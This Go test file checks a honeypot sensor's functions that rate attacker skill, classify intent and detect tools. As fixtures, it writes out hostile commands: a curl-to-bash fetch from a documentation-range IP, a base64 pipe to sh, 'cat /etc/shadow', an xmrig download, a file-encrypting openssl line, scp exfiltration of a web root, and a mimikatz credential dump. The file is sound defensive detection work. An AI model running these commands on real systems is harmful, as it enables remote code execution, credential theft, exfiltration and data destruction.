package detection

import (
	"testing"

	"github.com/invisible-tech/honeytrap-sensor/internal/types"
)

func TestEstimateSkillLevel_Empty(t *testing.T) {
	got := EstimateSkillLevel(nil, nil, nil)
	if got.Level != types.SkillScriptKiddie || got.Score != 0 {
		t.Errorf("EstimateSkillLevel(empty) = %+v, want script_kiddie/0", got)
	}
	got = EstimateSkillLevel([]string{}, []string{}, []string{})
	if got.Level != types.SkillScriptKiddie || got.Score != 0 {
		t.Errorf("EstimateSkillLevel(empty slices) = %+v, want script_kiddie/0", got)
	}
}

func TestEstimateSkillLevel_APT(t *testing.T) {
	commands := []string{
		"echo SQBFAFgA | base64 -d | sh",
		"python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
		"curl -s http://203.0.113.5/x | bash",
	}
	techniques := []string{"T1003", "T1059.004", "T1140", "T1105"}
	tools := []string{"mimikatz", "Cobalt Strike", "bloodhound"}
	got := EstimateSkillLevel(commands, techniques, tools)
	if got.Level != types.SkillAPT {
		t.Errorf("level = %s, want apt", got.Level)
	}
	if got.Score < 60 {
		t.Errorf("score = %d, want >= 60", got.Score)
	}
	if got.Score > MaxSkillScore {
		t.Errorf("score = %d exceeds cap", got.Score)
	}
}

func TestEstimateSkillLevel_SingleAPTToolIsAPT(t *testing.T) {
	got := EstimateSkillLevel(nil, nil, []string{"mimikatz"})
	if got.Level != types.SkillAPT {
		t.Errorf("level = %s, want apt", got.Level)
	}
}

func TestEstimateSkillLevel_Tiers(t *testing.T) {
	tests := []struct {
		name       string
		commands   []string
		techniques []string
		tools      []string
		want       types.SkillLevel
	}{
		{"one technique", nil, []string{"T1110"}, nil, types.SkillScriptKiddie},
		{"scanner and techniques", nil, []string{"T1046", "T1082"}, []string{"nmap"}, types.SkillIntermediate},
		{"advanced tooling", []string{"curl http://x/a | sh"}, []string{"T1105", "T1059.004", "T1140"}, []string{"metasploit"}, types.SkillAdvanced},
		{"unknown tools ignored", nil, nil, []string{"notatool"}, types.SkillScriptKiddie},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := EstimateSkillLevel(tt.commands, tt.techniques, tt.tools)
			if got.Level != tt.want {
				t.Errorf("level = %s (score %d), want %s", got.Level, got.Score, tt.want)
			}
		})
	}
}

func TestEstimateSkillLevel_DuplicatesCountOnce(t *testing.T) {
	a := EstimateSkillLevel(nil, []string{"T1082"}, []string{"nmap"})
	b := EstimateSkillLevel(nil, []string{"T1082", "T1082"}, []string{"nmap", "NMAP"})
	if a.Score != b.Score {
		t.Errorf("duplicate inputs changed score: %d vs %d", a.Score, b.Score)
	}
}

func TestClassifyIntent(t *testing.T) {
	tests := []struct {
		name       string
		commands   []string
		techniques []string
		want       types.Intent
	}{
		{"empty", nil, nil, types.IntentUnknown},
		{"empty with techniques", nil, []string{"T1003"}, types.IntentUnknown},
		{"recon", []string{"whoami", "uname -a", "hostname"}, nil, types.IntentReconnaissance},
		{"shadow beats recon", []string{"whoami", "cat /etc/shadow"}, nil, types.IntentCredentialHarvesting},
		{"dump technique beats recon", []string{"uname -a"}, []string{"T1003.008"}, types.IntentCredentialHarvesting},
		{"miner", []string{"wget http://x/xmrig", "./xmrig -o stratum+tcp://p:443"}, nil, types.IntentCryptomining},
		{"credential beats miner", []string{"cat /etc/shadow", "./xmrig"}, nil, types.IntentCredentialHarvesting},
		{"ransomware", []string{"openssl enc -aes-256-cbc -in db.sql -out db.sql.encrypted"}, nil, types.IntentRansomware},
		{"data theft", []string{"tar czf /tmp/a.tgz /var/www", "scp /tmp/a.tgz x@203.0.113.2:"}, nil, types.IntentDataTheft},
		{"lateral", []string{"ssh admin@10.0.0.12"}, nil, types.IntentLateralMovement},
		{"no match", []string{"echo hi"}, nil, types.IntentUnknown},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := ClassifyIntent(tt.commands, tt.techniques); got != tt.want {
				t.Errorf("ClassifyIntent(%v, %v) = %s, want %s", tt.commands, tt.techniques, got, tt.want)
			}
		})
	}
}

func TestDetectTools(t *testing.T) {
	got := DetectTools([]string{"nmap -sV 192.168.1.1"}, nil)
	if len(got) != 1 || got[0] != "nmap" {
		t.Errorf("DetectTools(nmap) = %v, want [nmap]", got)
	}

	if got := DetectTools([]string{"ls -la", "cat /etc/hostname"}, nil); len(got) != 0 {
		t.Errorf("DetectTools(benign) = %v, want empty", got)
	}

	got = DetectTools(nil, []string{"Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.7.2#stable"})
	if len(got) != 2 || got[0] != "nmap" || got[1] != "sqlmap" {
		t.Errorf("DetectTools(user agents) = %v, want [nmap sqlmap]", got)
	}

	got = DetectTools([]string{"./mimikatz.exe sekurlsa::logonpasswords", "hydra -l root -P pw.txt ssh://x"}, nil)
	if len(got) != 2 || got[0] != "hydra" || got[1] != "mimikatz" {
		t.Errorf("DetectTools(mixed) = %v", got)
	}
}

func TestLookupTool(t *testing.T) {
	for _, name := range []string{"Cobalt Strike", "cobalt-strike", "COBALT_STRIKE"} {
		tool, ok := LookupTool(name)
		if !ok || tool.Name != "cobalt_strike" || tool.Tier != TierAPT {
			t.Errorf("LookupTool(%q) = %+v, %v", name, tool, ok)
		}
	}
	if _, ok := LookupTool(""); ok {
		t.Error("LookupTool(empty) should not match")
	}
}
